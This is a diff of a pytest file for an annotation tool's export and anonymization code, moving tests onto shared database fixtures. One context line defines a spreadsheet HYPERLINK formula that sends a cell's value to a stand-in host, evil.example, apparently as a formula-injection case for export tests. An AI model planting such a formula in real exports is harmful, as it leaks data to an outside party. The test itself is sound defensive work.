@@ -18,7 +18,7 @@ from pathlib import Path
 import pytest
 import yaml
 
-from annotation.__main__ import build_demo, main
+from annotation.__main__ import main
 from annotation.exports import FORMATS, OPTIONS, export_csv, export_golden, export_phoenix, formats_taking
 from annotation.exports.common import write_csv
 from annotation.exports.download import export_download
@@ -30,9 +30,9 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"see source")'
 
 
 @pytest.fixture
-def own_demo(tmp_path):
-    build_demo(str(tmp_path / "own.db"))
-    with Store(tmp_path / "own.db") as store:
+def own_demo(demo_db):
+    """A demo store a test may change, on the backend under test."""
+    with Store(demo_db) as store:
         yield store
 
 
@@ -200,11 +200,11 @@ def test_pseudonyms_are_stable_across_exports(own_demo, tmp_path) -> None:
     assert yaml.safe_load((tmp_path / "g.yaml").read_text())["judged_by"] == [CAT, DAN, "annotator-5"]
 
 
-def test_anonymized_golden_of_one_imported_file_drops_its_names(tmp_path, capsys) -> None:
+def test_anonymized_golden_of_one_imported_file_drops_its_names(db_at, tmp_path, capsys) -> None:
     """One file's labels keep what it said of them, but not the names it gave."""
     source = tmp_path / "in.yaml"
     source.write_text("judged_by: [alice, bob]\nqueries:\n  - id: q1\n    grades: {d1: 2}\n")
-    db = tmp_path / "d.db"
+    db = db_at
     assert cli(main, capsys, "import", "--db", db, "--labels", source, "--annotator", "alice")[0] == 0
     with Store(db) as store:
         export_golden(store, tmp_path / "g.yaml", anonymize=True)
@@ -213,17 +213,19 @@ def test_anonymized_golden_of_one_imported_file_drops_its_names(tmp_path, capsys
     assert "alice" not in written and "bob" not in written
 
 
-def test_the_command_line_anonymizes(own_demo, tmp_path, capsys) -> None:
+def test_the_command_line_anonymizes(own_demo, demo_db, tmp_path, capsys) -> None:
     out = tmp_path / "g.yaml"
     code, said, err = cli(
-        main, capsys, "export", "--db", own_demo.path, "--format", "golden", "--anonymize", "-o", out
+        main, capsys, "export", "--db", demo_db, "--format", "golden", "--anonymize", "-o", out
     )
     assert code == 0, err
     assert yaml.safe_load(out.read_text())["judged_by"] == [CAT, DAN] and not NAMES.search(said)
 
 
-def test_the_page_anonymizes(own_demo, monkeypatch) -> None:
-    monkeypatch.setenv("DENOMINATOR_DB", own_demo.path)
+def test_the_page_anonymizes(own_demo, demo_db, monkeypatch) -> None:
+    monkeypatch.setenv(
+        "DENOMINATOR_DB", str(demo_db)
+    )  # own_demo.path: the URL as printed, credentials hidden
     at = page_test("annotation.data_ui.render_data_page", state={"label:annotator": "ann"}).run()
     at.selectbox(key="data:export-format").set_value("csv").run()
     at.checkbox(key="data:export-anonymize").check().run()
